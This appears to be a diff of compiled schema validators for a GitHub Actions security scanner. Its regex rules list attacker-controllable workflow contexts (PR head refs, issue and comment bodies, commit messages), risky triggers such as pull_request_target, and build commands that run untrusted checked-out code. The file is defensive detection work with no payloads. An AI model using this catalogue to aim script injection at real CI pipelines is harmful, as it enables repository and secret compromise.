-var pattern69 = func0("(?:github\\.event\\.pull_request\\.head\\.(sha|ref|repo\\.full_name|repo\\.clone_url|label))|(?:github\\.event\\.pull_request\\.merge_commit_sha)|(?:github\\.head_ref)|(?:github\\.event\\.workflow_run\\.(head_sha|head_branch|head_repository\\.full_name|head_repository\\.clone_url|pull_requests))|(?:github\\.event\\.(check_suite|check_run\\.check_suite)\\.head_(sha|branch))|(?:refs/pull/)|(?:(^|[\\s:+/])pull/[^/\\s]+/(head|merge))|(?:steps\\.[\\w-]+\\.outputs\\.[\\w-]*(head|pr)[\\w-]*)", "u");
-function validate112(data, { instancePath = "", parentData, parentDataProperty, rootData = data, dynamicAnchors = {} } = {}) {
-  let vErrors = null;
-  let errors = 0;
-  const evaluated0 = validate112.evaluated;
-  if (evaluated0.dynamicProps) {
-    evaluated0.props = void 0;
-  }
-  if (evaluated0.dynamicItems) {
-    evaluated0.items = void 0;
-  }
-  if (data && typeof data == "object" && !Array.isArray(data)) {
-    if (data.checkedOutRefs === void 0) {
-      const err0 = { instancePath, schemaPath: "#/required", keyword: "required", params: { missingProperty: "checkedOutRefs" }, message: "must have required property 'checkedOutRefs'" };
-      if (vErrors === null) {
-        vErrors = [err0];
-      } else {
-        vErrors.push(err0);
-      }
-      errors++;
-    }
-    if (data.triggers === void 0) {
-      const err1 = { instancePath, schemaPath: "#/required", keyword: "required", params: { missingProperty: "triggers" }, message: "must have required property 'triggers'" };
-      if (vErrors === null) {
-        vErrors = [err1];
-      } else {
-        vErrors.push(err1);
-      }
-      errors++;
-    }
-    if (data.checkedOutRefs !== void 0) {
-      let data0 = data.checkedOutRefs;
-      if (Array.isArray(data0)) {
-        const _errs1 = errors;
-        const len0 = data0.length;
-        for (let i0 = 0; i0 < len0; i0++) {
-          let data1 = data0[i0];
-          const _errs2 = errors;
-          if (typeof data1 === "string") {
-            if (!pattern69.test(data1)) {
-              const err2 = { instancePath: instancePath + "/checkedOutRefs/" + i0, schemaPath: "#/properties/checkedOutRefs/contains/pattern", keyword: "pattern", params: { pattern: "(?:github\\.event\\.pull_request\\.head\\.(sha|ref|repo\\.full_name|repo\\.clone_url|label))|(?:github\\.event\\.pull_request\\.merge_commit_sha)|(?:github\\.head_ref)|(?:github\\.event\\.workflow_run\\.(head_sha|head_branch|head_repository\\.full_name|head_repository\\.clone_url|pull_requests))|(?:github\\.event\\.(check_suite|check_run\\.check_suite)\\.head_(sha|branch))|(?:refs/pull/)|(?:(^|[\\s:+/])pull/[^/\\s]+/(head|merge))|(?:steps\\.[\\w-]+\\.outputs\\.[\\w-]*(head|pr)[\\w-]*)" }, message: 'must match pattern "(?:github\\.event\\.pull_request\\.head\\.(sha|ref|repo\\.full_name|repo\\.clone_url|label))|(?:github\\.event\\.pull_request\\.merge_commit_sha)|(?:github\\.head_ref)|(?:github\\.event\\.workflow_run\\.(head_sha|head_branch|head_repository\\.full_name|head_repository\\.clone_url|pull_requests))|(?:github\\.event\\.(check_suite|check_run\\.check_suite)\\.head_(sha|branch))|(?:refs/pull/)|(?:(^|[\\s:+/])pull/[^/\\s]+/(head|merge))|(?:steps\\.[\\w-]+\\.outputs\\.[\\w-]*(head|pr)[\\w-]*)"' };
-              if (vErrors === null) {
-                vErrors = [err2];
-              } else {
-                vErrors.push(err2);
-              }
-              errors++;
-            }
-          }
-          var valid1 = _errs2 === errors;
-          if (valid1) {
-            break;
-          }
-        }
-        if (!valid1) {
-          const err3 = { instancePath: instancePath + "/checkedOutRefs", schemaPath: "#/properties/checkedOutRefs/contains", keyword: "contains", params: { minContains: 1 }, message: "must contain at least 1 valid item(s)" };
-          if (vErrors === null) {
-            vErrors = [err3];
-          } else {
-            vErrors.push(err3);
-          }
-          errors++;
-        } else {
-          errors = _errs1;
-          if (vErrors !== null) {
-            if (_errs1) {
-              vErrors.length = _errs1;
-            } else {
-              vErrors = null;
-            }
-          }
-        }
       }
     }
     if (data.triggers !== void 0) {
-      let data2 = data.triggers;
-      if (Array.isArray(data2)) {
-        const _errs4 = errors;
-        const len1 = data2.length;
-        for (let i1 = 0; i1 < len1; i1++) {
-          let data3 = data2[i1];
-          const _errs5 = errors;
-          if (!(data3 === "pull_request_target" || data3 === "workflow_run" || data3 === "issue_comment" || data3 === "pull_request_review_comment" || data3 === "discussion_comment" || data3 === "issues")) {
-            const err4 = { instancePath: instancePath + "/triggers/" + i1, schemaPath: "#/properties/triggers/contains/enum", keyword: "enum", params: { allowedValues: schema125.properties.triggers.contains.enum }, message: "must be equal to one of the allowed values" };
-            if (vErrors === null) {
-              vErrors = [err4];
-            } else {
-              vErrors.push(err4);
-            }
-            errors++;
-          }
-          var valid2 = _errs5 === errors;
-          if (valid2) {
-            break;
-          }
-        }
-        if (!valid2) {
-          const err5 = { instancePath: instancePath + "/triggers", schemaPath: "#/properties/triggers/contains", keyword: "contains", params: { minContains: 1 }, message: "must contain at least 1 valid item(s)" };
-          if (vErrors === null) {
-            vErrors = [err5];
-          } else {
-            vErrors.push(err5);
-          }
-          errors++;
-        } else {
-          errors = _errs4;
-          if (vErrors !== null) {
-            if (_errs4) {
-              vErrors.length = _errs4;
-            } else {
-              vErrors = null;
-            }
-          }
-        }
-      }
-    }
-  }
-  validate112.errors = vErrors;
-  return errors === 0;
-}
-validate112.evaluated = { "props": { "checkedOutRefs": true, "triggers": true }, "dynamicProps": false, "dynamicItems": false };
-var v93 = validate113;
-var pattern70 = func0("(?:^(\\S*/)?(npm|pnpm|yarn|bun|npx|pnpx|node|deno|lerna|nx|turbo)( |$))|(?:^(\\S*/)?(make|gmake|cmake|ninja|bazel|bazelisk|meson|just|task|rake|bundle|composer|mix|sbt|ant|mvn|gradle|cargo|dotnet|msbuild|xcodebuild|swift|pre-commit|tox|nox|pytest|poetry|pipenv|hatch|pdm|buck2?)( |$))|(?:^(\\S*/)?(\\./|\\.\\./)|^(\\S*/)?(gradlew|mvnw)( |$))|(?:^(\\S*/)?(ba|da|z|k)?sh [^-]|^(source|\\.) )|(?:^(\\S*/)?python[0-9.]* ([^-]|-m (pytest|build|tox|nox|unittest|pip install)))|(?:^(\\S*/)?(pip[0-9.]*|uv pip) install .*(\\s\\.|\\s-e|\\s-r|\\./|requirements))|(?:^(\\S*/)?(uv|go) (run|test|generate|build|sync)( |$))|(?:^(\\S*/)?(docker|podman|nerdctl) (buildx |image )?(build|bake)( |$)|^(\\S*/)?buildah (bud|build)( |$))|(?:^(\\S*/)?(docker|podman) compose |^(\\S*/)?(docker-compose|podman-compose) )|(?:^(\\S*/)?(docker|podman|nerdctl) (container )?(run|create) .*(\\$\\{?PWD|\\$\\(pwd\\)|github\\.workspace|GITHUB_WORKSPACE|[\\s=]\\.(/|:|\\s|$)))", "u");
-var pattern71 = func0("^\\.[/\\\\]", "u");
-function validate113(data, { instancePath = "", parentData, parentDataProperty, rootData = data, dynamicAnchors = {} } = {}) {
-  let vErrors = null;
-  let errors = 0;
-  const evaluated0 = validate113.evaluated;
-  if (evaluated0.dynamicProps) {
-    evaluated0.props = void 0;
-  }
-  if (evaluated0.dynamicItems) {
-    evaluated0.items = void 0;
-  }
-  const _errs0 = errors;
-  const _errs1 = errors;
-  const _errs2 = errors;
-  let valid1 = false;
-  const _errs3 = errors;
-  if (data && typeof data == "object" && !Array.isArray(data)) {
-    let missing0;
-    if (data.commands === void 0 && (missing0 = "commands")) {
-      const err0 = {};
-      if (vErrors === null) {
-        vErrors = [err0];
-      } else {
-        vErrors.push(err0);
-      }
-      errors++;
-    } else {
-      if (data.commands !== void 0) {
-        let data0 = data.commands;
-        if (Array.isArray(data0)) {
-          const _errs5 = errors;
-          const len0 = data0.length;
-          for (let i0 = 0; i0 < len0; i0++) {
-            let data1 = data0[i0];
-            const _errs6 = errors;
-            if (typeof data1 === "string") {
-              if (!pattern70.test(data1)) {
-                const err1 = {};
-                if (vErrors === null) {
-                  vErrors = [err1];
-                } else {
-                  vErrors.push(err1);
-                }
-                errors++;
-              }
-            }
-            var valid3 = _errs6 === errors;
-            if (valid3) {
-              break;
-            }
-          }
-          if (!valid3) {
-            const err2 = {};
-            if (vErrors === null) {
-              vErrors = [err2];
-            } else {
-              vErrors.push(err2);
-            }
-            errors++;
-          } else {
-            errors = _errs5;
-            if (vErrors !== null) {
-              if (_errs5) {
-                vErrors.length = _errs5;
-              } else {
-                vErrors = null;
-              }
-            }
-          }
-        }
-      }
-    }
-  }
-  var _valid0 = _errs3 === errors;
-  valid1 = valid1 || _valid0;
-  if (_valid0) {
-    var props0 = {};
-    props0.commands = true;
-  }
-  const _errs7 = errors;
-  if (data && typeof data == "object" && !Array.isArray(data)) {
-    let missing1;
-    if (data.uses === void 0 && (missing1 = "uses")) {
-      const err3 = {};
-      if (vErrors === null) {
-        vErrors = [err3];
-      } else {
-        vErrors.push(err3);
-      }
-      errors++;
-    } else {
-      if (data.uses !== void 0) {
-        let data2 = data.uses;
-        if (typeof data2 === "string") {
-          if (!pattern71.test(data2)) {
-            const err4 = {};
-            if (vErrors === null) {
-              vErrors = [err4];
-            } else {
-              vErrors.push(err4);
-            }
-            errors++;
-          }
-        }
-      }
-    }
-  }
-  var _valid0 = _errs7 === errors;
-  valid1 = valid1 || _valid0;
-  if (_valid0) {
-    if (props0 !== true) {
-      props0 = props0 || {};
-      props0.uses = true;
-    }
-  }
-  const _errs9 = errors;
-  if (data && typeof data == "object" && !Array.isArray(data)) {
-    let missing2;
-    if (data.builds === void 0 && (missing2 = "builds")) {
-      const err5 = {};
-      if (vErrors === null) {
-        vErrors = [err5];
-      } else {
-        vErrors.push(err5);
-      }
-      errors++;
-    }
-  }
-  var _valid0 = _errs9 === errors;
-  valid1 = valid1 || _valid0;
-  const _errs10 = errors;
-  if (data && typeof data == "object" && !Array.isArray(data)) {
-    let missing3;
-    if (data.composeFiles === void 0 && (missing3 = "composeFiles")) {
-      const err6 = {};
-      if (vErrors === null) {
-        vErrors = [err6];
-      } else {
-        vErrors.push(err6);
-      }
-      errors++;
-    }
-  }
-  var _valid0 = _errs10 === errors;
-  valid1 = valid1 || _valid0;
-  if (!valid1) {
-    const err7 = {};
-    if (vErrors === null) {
-      vErrors = [err7];
-    } else {
-      vErrors.push(err7);
-    }
-    errors++;
-  } else {
-    errors = _errs2;
-    if (vErrors !== null) {
-      if (_errs2) {
-        vErrors.length = _errs2;
-      } else {
-        vErrors = null;
-      }
-    }
-  }
-  var valid0 = _errs1 === errors;
-  if (valid0) {
-    const err8 = { instancePath, schemaPath: "#/not", keyword: "not", params: {}, message: "must NOT be valid" };
-    if (vErrors === null) {
-      vErrors = [err8];
-    } else {
-      vErrors.push(err8);
-    }
-    errors++;
-  } else {
-    errors = _errs0;
-    if (vErrors !== null) {
-      if (_errs0) {
-        vErrors.length = _errs0;
-      } else {
-        vErrors = null;
-      }
-    }
-  }
-  validate113.errors = vErrors;
-  return errors === 0;
-}
-validate113.evaluated = { "dynamicProps": false, "dynamicItems": false };
-var v94 = validate114;
-var pattern72 = func0("(?:^github\\.event\\.(issue|pull_request|discussion)\\.(title|body)$)|(?:^github\\.event\\.(comment|review|review_comment)\\.body$)|(?:^github\\.event\\.release\\.(name|body|tag_name)$)|(?:^github\\.event\\.pages\\.\\*\\.page_name$)|(?:^github\\.head_ref$)|(?:^github\\.event\\.pull_request\\.head\\.(ref|label)$)|(?:^github\\.event\\.pull_request\\.head\\.repo\\.(default_branch|description|homepage)$)|(?:^github\\.event\\.(workflow_run\\.head_branch|check_suite\\.head_branch|check_run\\.check_suite\\.head_branch)$)|(?:^github\\.event\\.workflow_run\\.pull_requests\\.\\*\\.head\\.ref$)|(?:^github\\.event\\.(commits\\.\\*|head_commit|workflow_run\\.head_commit|merge_group\\.head_commit)\\.(message|(author|committer)\\.(name|email))$)|(?:^github\\.event\\.workflow_run\\.(display_title|head_repository\\.description)$)|(?:^github\\.event\\.client_payload(\\..*)?$)|(?:^github(\\.event)?$)|(?:^github\\.event\\.(issue|pull_request|pull_request\\.head|pull_request\\.head\\.repo|discussion|comment|review|review_comment|release|pages|pages\\.\\*|commits|commits\\.\\*|commits\\.\\*\\.(author|committer)|head_commit|head_commit\\.(author|committer)|workflow_run|workflow_run\\.head_commit|workflow_run\\.head_commit\\.(author|committer)|workflow_run\\.head_repository|workflow_run\\.pull_requests|workflow_run\\.pull_requests\\.\\*|workflow_run\\.pull_requests\\.\\*\\.head|check_suite|check_run|check_run\\.check_suite|merge_group|merge_group\\.head_commit)$)", "u");
-function validate114(data, { instancePath = "", parentData, parentDataProperty, rootData = data, dynamicAnchors = {} } = {}) {
-  let vErrors = null;
-  let errors = 0;
-  const evaluated0 = validate114.evaluated;
-  if (evaluated0.dynamicProps) {
-    evaluated0.props = void 0;
-  }
-  if (evaluated0.dynamicItems) {
-    evaluated0.items = void 0;
-  }
-  if (data && typeof data == "object" && !Array.isArray(data)) {
-    if (data.expansions !== void 0) {
-      let data0 = data.expansions;
-      if (Array.isArray(data0)) {
-        const len0 = data0.length;
+      let data1 = data.triggers;
+      if (Array.isArray(data1)) {
+        const _errs2 = errors;
+        const len0 = data1.length;
         for (let i0 = 0; i0 < len0; i0++) {
-          let data1 = data0[i0];
-          const _errs2 = errors;
-          let valid3 = true;
+          let data2 = data1[i0];
           const _errs3 = errors;
-          if (data1 && typeof data1 == "object" && !Array.isArray(data1)) {
-            let missing0;
-            if (data1.input === void 0 && (missing0 = "input")) {
-              const err0 = {};
-              if (vErrors === null) {
-                vErrors = [err0];
-              } else {
-                vErrors.push(err0);
-              }
-              errors++;
+          if (!(data2 === "pull_request_target" || data2 === "workflow_run")) {
+            const err3 = { instancePath: instancePath + "/triggers/" + i0, schemaPath: "#/properties/triggers/contains/enum", keyword: "enum", params: { allowedValues: schema114.properties.triggers.contains.enum }, message: "must be equal to one of the allowed values" };
+            if (vErrors === null) {
+              vErrors = [err3];
             } else {
-              if (data1.input !== void 0) {
-                let data2 = data1.input;
-                if (!(data2 === "run" || data2 === "actions/github-script:script" || data2 === "appleboy/ssh-action:script" || data2 === "appleboy/ssh-action:script_path" || data2 === "garygrossgarten/github-action-ssh:command" || data2 === "nick-fields/retry:command" || data2 === "nick-invision/retry:command" || data2 === "wandalen/wretry.action:command" || data2 === "azure/cli:inlinescript" || data2 === "azure/powershell:inlinescript" || data2 === "addnab/docker-run-action:run" || data2 === "mathiasvr/command-output:run" || data2 === "gacts/run-and-post-run:run" || data2 === "gacts/run-and-post-run:post")) {
-                  const err1 = {};
-                  if (vErrors === null) {
-                    vErrors = [err1];
-                  } else {
-                    vErrors.push(err1);
-                  }
-                  errors++;
-                }
-              }
+              vErrors.push(err3);
             }
+            errors++;
           }
-          var _valid0 = _errs3 === errors;
+          var valid1 = _errs3 === errors;
+          if (valid1) {
+            break;
+          }
+        }
+        if (!valid1) {
+          const err4 = { instancePath: instancePath + "/triggers", schemaPath: "#/properties/triggers/contains", keyword: "contains", params: { minContains: 1 }, message: "must contain at least 1 valid item(s)" };
+          if (vErrors === null) {
+            vErrors = [err4];
+          } else {
+            vErrors.push(err4);
+          }
+          errors++;
+        } else {
           errors = _errs2;
           if (vErrors !== null) {
             if (_errs2) {
@@ -39521,77 +38403,125 @@ function validate114(data, { instancePath = "", parentData, parentDataProperty, 
               vErrors = null;
             }
           }
-          if (_valid0) {
-            const _errs5 = errors;
-            if (data1 && typeof data1 == "object" && !Array.isArray(data1)) {
-              if (data1.context !== void 0) {
-                let data3 = data1.context;
-                const _errs7 = errors;
-                const _errs8 = errors;
-                if (typeof data3 === "string") {
-                  if (!pattern72.test(data3)) {
-                    const err2 = {};
-                    if (vErrors === null) {
-                      vErrors = [err2];
-                    } else {
-                      vErrors.push(err2);
-                    }
-                    errors++;
-                  }
-                }
-                var valid6 = _errs8 === errors;
-                if (valid6) {
-                  const err3 = { instancePath: instancePath + "/expansions/" + i0 + "/context", schemaPath: "#/properties/expansions/items/then/properties/context/not", keyword: "not", params: {}, message: "must NOT be valid" };
-                  if (vErrors === null) {
-                    vErrors = [err3];
-                  } else {
-                    vErrors.push(err3);
-                  }
-                  errors++;
-                } else {
-                  errors = _errs7;
-                  if (vErrors !== null) {
-                    if (_errs7) {
-                      vErrors.length = _errs7;
-                    } else {
-                      vErrors = null;
-                    }
-                  }
-                }
-              }
-            }
-            var _valid0 = _errs5 === errors;
-            valid3 = _valid0;
-            if (valid3) {
-              var props0 = {};
-              props0.context = true;
-              props0.input = true;
-            }
-          }
-          if (!valid3) {
-            const err4 = { instancePath: instancePath + "/expansions/" + i0, schemaPath: "#/properties/expansions/items/if", keyword: "if", params: { failingKeyword: "then" }, message: 'must match "then" schema' };
-            if (vErrors === null) {
-              vErrors = [err4];
-            } else {
-              vErrors.push(err4);
-            }
-            errors++;
-          }
         }
       }
     }
   }
-  validate114.errors = vErrors;
+  validate101.errors = vErrors;
   return errors === 0;
 }
-validate114.evaluated = { "props": { "expansions": true }, "dynamicProps": false, "dynamicItems": false };
-var v95 = validate115;
-var schema128 = { "$id": "https://containment.dev/schemas/config.json", "type": "object", "additionalProperties": false, "properties": { "fail-on": { "enum": ["critical", "high", "medium", "low", "info", "none"] }, "min-severity": { "enum": ["critical", "high", "medium", "low", "info"] }, "exclude": { "type": "array", "items": { "type": "string" } }, "packs": { "type": "object", "additionalProperties": { "type": "boolean" } }, "rules": { "type": "object", "additionalProperties": { "anyOf": [{ "const": "off" }, { "enum": ["critical", "high", "medium", "low", "info"] }, { "type": "object", "additionalProperties": false, "properties": { "enabled": { "type": "boolean" }, "severity": { "enum": ["critical", "high", "medium", "low", "info"] }, "params": { "type": "object" }, "exclude": { "type": "array", "items": { "type": "string" } } } }] } }, "suppressions": { "type": "object", "additionalProperties": false, "properties": { "in-pull-request": { "enum": ["none", "up-to-info", "up-to-low", "up-to-medium", "up-to-high", "all"] } } } } };
-function validate115(data, { instancePath = "", parentData, parentDataProperty, rootData = data, dynamicAnchors = {} } = {}) {
+validate101.evaluated = { "props": { "prHeadCheckedOut": true, "triggers": true }, "dynamicProps": false, "dynamicItems": false };
+var v82 = validate102;
+function validate102(data, { instancePath = "", parentData, parentDataProperty, rootData = data, dynamicAnchors = {} } = {}) {
+  let vErrors = null;
+  let errors = 0;
+  const evaluated0 = validate102.evaluated;
+  if (evaluated0.dynamicProps) {
+    evaluated0.props = void 0;
+  }
+  if (evaluated0.dynamicItems) {
+    evaluated0.items = void 0;
+  }
+  if (data && typeof data == "object" && !Array.isArray(data)) {
+    if (data.builds !== void 0) {
+      const err0 = { instancePath: instancePath + "/builds", schemaPath: "#/properties/builds/false schema", keyword: "false schema", params: {}, message: "boolean schema is false" };
+      if (vErrors === null) {
+        vErrors = [err0];
+      } else {
+        vErrors.push(err0);
+      }
+      errors++;
+    }
+    if (data.composeFiles !== void 0) {
+      const err1 = { instancePath: instancePath + "/composeFiles", schemaPath: "#/properties/composeFiles/false schema", keyword: "false schema", params: {}, message: "boolean schema is false" };
+      if (vErrors === null) {
+        vErrors = [err1];
+      } else {
+        vErrors.push(err1);
+      }
+      errors++;
+    }
+  }
+  validate102.errors = vErrors;
+  return errors === 0;
+}
+validate102.evaluated = { "props": { "builds": true, "composeFiles": true }, "dynamicProps": false, "dynamicItems": false };
+var v83 = validate103;
+function validate103(data, { instancePath = "", parentData, parentDataProperty, rootData = data, dynamicAnchors = {} } = {}) {
+  let vErrors = null;
+  let errors = 0;
+  const evaluated0 = validate103.evaluated;
+  if (evaluated0.dynamicProps) {
+    evaluated0.props = void 0;
+  }
+  if (evaluated0.dynamicItems) {
+    evaluated0.items = void 0;
+  }
+  const _errs0 = errors;
+  let valid0 = true;
+  const _errs1 = errors;
+  if (data && typeof data == "object" && !Array.isArray(data)) {
+    let missing0;
+    if (data.untrustedExpressions === void 0 && (missing0 = "untrustedExpressions")) {
+      const err0 = {};
+      if (vErrors === null) {
+        vErrors = [err0];
+      } else {
+        vErrors.push(err0);
+      }
+      errors++;
+    }
+  }
+  var _valid0 = _errs1 === errors;
+  errors = _errs0;
+  if (vErrors !== null) {
+    if (_errs0) {
+      vErrors.length = _errs0;
+    } else {
+      vErrors = null;
+    }
+  }
+  if (_valid0) {
+    const _errs2 = errors;
+    if (data && typeof data == "object" && !Array.isArray(data)) {
+      if (data.run !== void 0) {
+        const err1 = { instancePath: instancePath + "/run", schemaPath: "#/then/properties/run/false schema", keyword: "false schema", params: {}, message: "boolean schema is false" };
+        if (vErrors === null) {
+          vErrors = [err1];
+        } else {
+          vErrors.push(err1);
+        }
+        errors++;
+      }
+    }
+    var _valid0 = _errs2 === errors;
+    valid0 = _valid0;
+    if (valid0) {
+      var props0 = {};
+      props0.run = true;
+    }
+  }
+  if (!valid0) {
+    const err2 = { instancePath, schemaPath: "#/if", keyword: "if", params: { failingKeyword: "then" }, message: 'must match "then" schema' };
+    if (vErrors === null) {
+      vErrors = [err2];
+    } else {
+      vErrors.push(err2);
+    }
+    errors++;
+  }
+  validate103.errors = vErrors;
+  evaluated0.props = props0;
+  return errors === 0;
+}
+validate103.evaluated = { "dynamicProps": true, "dynamicItems": false };
+var v84 = validate104;
+var schema117 = { "$id": "https://containment.dev/schemas/config.json", "type": "object", "additionalProperties": false, "properties": { "fail-on": { "enum": ["critical", "high", "medium", "low", "info", "none"] }, "min-severity": { "enum": ["critical", "high", "medium", "low", "info"] }, "exclude": { "type": "array", "items": { "type": "string" } }, "packs": { "type": "object", "additionalProperties": { "type": "boolean" } }, "rules": { "type": "object", "additionalProperties": { "anyOf": [{ "const": "off" }, { "enum": ["critical", "high", "medium", "low", "info"] }, { "type": "object", "additionalProperties": false, "properties": { "enabled": { "type": "boolean" }, "severity": { "enum": ["critical", "high", "medium", "low", "info"] }, "params": { "type": "object" }, "exclude": { "type": "array", "items": { "type": "string" } } } }] } }, "suppressions": { "type": "object", "additionalProperties": false, "properties": { "in-pull-request": { "enum": ["none", "up-to-info", "up-to-low", "up-to-medium", "up-to-high", "all"] } } } } };
+function validate104(data, { instancePath = "", parentData, parentDataProperty, rootData = data, dynamicAnchors = {} } = {}) {
   ;
   let vErrors = null;
   let errors = 0;
-  const evaluated0 = validate115.evaluated;
+  const evaluated0 = validate104.evaluated;
   if (evaluated0.dynamicProps) {
     evaluated0.props = void 0;
   }
@@ -39613,7 +38543,7 @@ function validate115(data, { instancePath = "", parentData, parentDataProperty, 
     if (data["fail-on"] !== void 0) {
       let data0 = data["fail-on"];
       if (!(data0 === "critical" || data0 === "high" || data0 === "medium" || data0 === "low" || data0 === "info" || data0 === "none")) {
-        const err1 = { instancePath: instancePath + "/fail-on", schemaPath: "#/properties/fail-on/enum", keyword: "enum", params: { allowedValues: schema128.properties["fail-on"].enum }, message: "must be equal to one of the allowed values" };
+        const err1 = { instancePath: instancePath + "/fail-on", schemaPath: "#/properties/fail-on/enum", keyword: "enum", params: { allowedValues: schema117.properties["fail-on"].enum }, message: "must be equal to one of the allowed values" };
         if (vErrors === null) {
           vErrors = [err1];
         } else {
@@ -39625,7 +38555,7 @@ function validate115(data, { instancePath = "", parentData, parentDataProperty, 
     if (data["min-severity"] !== void 0) {
       let data1 = data["min-severity"];
       if (!(data1 === "critical" || data1 === "high" || data1 === "medium" || data1 === "low" || data1 === "info")) {
-        const err2 = { instancePath: instancePath + "/min-severity", schemaPath: "#/properties/min-severity/enum", keyword: "enum", params: { allowedValues: schema128.properties["min-severity"].enum }, message: "must be equal to one of the allowed values" };
+        const err2 = { instancePath: instancePath + "/min-severity", schemaPath: "#/properties/min-severity/enum", keyword: "enum", params: { allowedValues: schema117.properties["min-severity"].enum }, message: "must be equal to one of the allowed values" };
         if (vErrors === null) {
           vErrors = [err2];
         } else {
@@ -39704,7 +38634,7 @@ function validate115(data, { instancePath = "", parentData, parentDataProperty, 
           valid5 = valid5 || _valid0;
           const _errs19 = errors;
           if (!(data7 === "critical" || data7 === "high" || data7 === "medium" || data7 === "low" || data7 === "info")) {
-            const err8 = { instancePath: instancePath + "/rules/" + key2.replace(/~/g, "~0").replace(/\//g, "~1"), schemaPath: "#/properties/rules/additionalProperties/anyOf/1/enum", keyword: "enum", params: { allowedValues: schema128.properties.rules.additionalProperties.anyOf[1].enum }, message: "must be equal to one of the allowed values" };
+            const err8 = { instancePath: instancePath + "/rules/" + key2.replace(/~/g, "~0").replace(/\//g, "~1"), schemaPath: "#/properties/rules/additionalProperties/anyOf/1/enum", keyword: "enum", params: { allowedValues: schema117.properties.rules.additionalProperties.anyOf[1].enum }, message: "must be equal to one of the allowed values" };
             if (vErrors === null) {
               vErrors = [err8];
             } else {
@@ -39741,7 +38671,7 @@ function validate115(data, { instancePath = "", parentData, parentDataProperty, 
             if (data7.severity !== void 0) {
               let data9 = data7.severity;
               if (!(data9 === "critical" || data9 === "high" || data9 === "medium" || data9 === "low" || data9 === "info")) {
-                const err11 = { instancePath: instancePath + "/rules/" + key2.replace(/~/g, "~0").replace(/\//g, "~1") + "/severity", schemaPath: "#/properties/rules/additionalProperties/anyOf/2/properties/severity/enum", keyword: "enum", params: { allowedValues: schema128.properties.rules.additionalProperties.anyOf[2].properties.severity.enum }, message: "must be equal to one of the allowed values" };
+                const err11 = { instancePath: instancePath + "/rules/" + key2.replace(/~/g, "~0").replace(/\//g, "~1") + "/severity", schemaPath: "#/properties/rules/additionalProperties/anyOf/2/properties/severity/enum", keyword: "enum", params: { allowedValues: schema117.properties.rules.additionalProperties.anyOf[2].properties.severity.enum }, message: "must be equal to one of the allowed values" };
                 if (vErrors === null) {
                   vErrors = [err11];
                 } else {
@@ -39844,7 +38774,7 @@ function validate115(data, { instancePath = "", parentData, parentDataProperty, 
         if (data13["in-pull-request"] !== void 0) {
           let data14 = data13["in-pull-request"];
           if (!(data14 === "none" || data14 === "up-to-info" || data14 === "up-to-low" || data14 === "up-to-medium" || data14 === "up-to-high" || data14 === "all")) {
-            const err19 = { instancePath: instancePath + "/suppressions/in-pull-request", schemaPath: "#/properties/suppressions/properties/in-pull-request/enum", keyword: "enum", params: { allowedValues: schema128.properties.suppressions.properties["in-pull-request"].enum }, message: "must be equal to one of the allowed values" };
+            const err19 = { instancePath: instancePath + "/suppressions/in-pull-request", schemaPath: "#/properties/suppressions/properties/in-pull-request/enum", keyword: "enum", params: { allowedValues: schema117.properties.suppressions.properties["in-pull-request"].enum }, message: "must be equal to one of the allowed values" };
             if (vErrors === null) {
               vErrors = [err19];
             } else {
@@ -39872,18 +38802,18 @@ function validate115(data, { instancePath = "", parentData, parentDataProperty, 
     }
     errors++;
   }
-  validate115.errors = vErrors;
+  validate104.errors = vErrors;
   return errors === 0;
 }
-validate115.evaluated = { "props": true, "dynamicProps": false, "dynamicItems": false };
-var v96 = validate116;
-var func75 = require_ucs2length().default;
-var pattern73 = func0("^[a-z0-9]+(-[a-z0-9]+)*$", "u");
-function validate116(data, { instancePath = "", parentData, parentDataProperty, rootData = data, dynamicAnchors = {} } = {}) {
+validate104.evaluated = { "props": true, "dynamicProps": false, "dynamicItems": false };
+var v85 = validate105;
+var func68 = require_ucs2length().default;
+var pattern65 = func0("^[a-z0-9]+(-[a-z0-9]+)*$", "u");
+function validate105(data, { instancePath = "", parentData, parentDataProperty, rootData = data, dynamicAnchors = {} } = {}) {
   ;
   let vErrors = null;
   let errors = 0;
-  const evaluated0 = validate116.evaluated;
+  const evaluated0 = validate105.evaluated;
   if (evaluated0.dynamicProps) {
     evaluated0.props = void 0;
   }
@@ -39941,7 +38871,7 @@ function validate116(data, { instancePath = "", parentData, parentDataProperty, 
     if (data.id !== void 0) {
       let data0 = data.id;
       if (typeof data0 === "string") {
-        if (!pattern73.test(data0)) {
+        if (!pattern65.test(data0)) {
           const err5 = { instancePath: instancePath + "/id", schemaPath: "#/properties/id/pattern", keyword: "pattern", params: { pattern: "^[a-z0-9]+(-[a-z0-9]+)*$" }, message: 'must match pattern "^[a-z0-9]+(-[a-z0-9]+)*$"' };
           if (vErrors === null) {
             vErrors = [err5];
@@ -39963,7 +38893,7 @@ function validate116(data, { instancePath = "", parentData, parentDataProperty, 
     if (data.title !== void 0) {
       let data1 = data.title;
       if (typeof data1 === "string") {
-        if (func75(data1) < 1) {
+        if (func68(data1) < 1) {
           const err7 = { instancePath: instancePath + "/title", schemaPath: "#/properties/title/minLength", keyword: "minLength", params: { limit: 1 }, message: "must NOT have fewer than 1 characters" };
           if (vErrors === null) {
             vErrors = [err7];
@@ -39985,7 +38915,7 @@ function validate116(data, { instancePath = "", parentData, parentDataProperty, 
     if (data.description !== void 0) {
       let data2 = data.description;
       if (typeof data2 === "string") {
-        if (func75(data2) < 1) {
+        if (func68(data2) < 1) {
           const err9 = { instancePath: instancePath + "/description", schemaPath: "#/properties/description/minLength", keyword: "minLength", params: { limit: 1 }, message: "must NOT have fewer than 1 characters" };
           if (vErrors === null) {
             vErrors = [err9];
@@ -40007,7 +38937,7 @@ function validate116(data, { instancePath = "", parentData, parentDataProperty, 
     if (data.version !== void 0) {
       let data3 = data.version;
       if (typeof data3 === "string") {
-        if (func75(data3) < 1) {
+        if (func68(data3) < 1) {
           const err11 = { instancePath: instancePath + "/version", schemaPath: "#/properties/version/minLength", keyword: "minLength", params: { limit: 1 }, message: "must NOT have fewer than 1 characters" };
           if (vErrors === null) {
             vErrors = [err11];
@@ -40060,23 +38990,23 @@ function validate116(data, { instancePath = "", parentData, parentDataProperty, 
     }
     errors++;
   }
-  validate116.errors = vErrors;
+  validate105.errors = vErrors;
   return errors === 0;
 }
-validate116.evaluated = { "props": true, "dynamicProps": false, "dynamicItems": false };
-var v97 = validate117;
